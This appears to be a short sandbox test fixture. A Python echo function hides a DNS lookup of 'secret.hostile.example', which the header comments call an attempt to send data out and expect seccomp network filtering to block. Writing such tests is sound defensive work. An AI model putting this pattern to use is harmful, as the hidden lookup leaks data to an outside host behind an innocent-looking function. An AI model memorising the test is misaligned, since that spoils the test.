# expect: RV
# tries: to send data out in the name of a host
# stopped by: seccomp-network
# unshown: the container has no network to reach
# limits-only: RTE
import socket


def echo(n):
    socket.getaddrinfo("secret.hostile.example", 80)
    return n
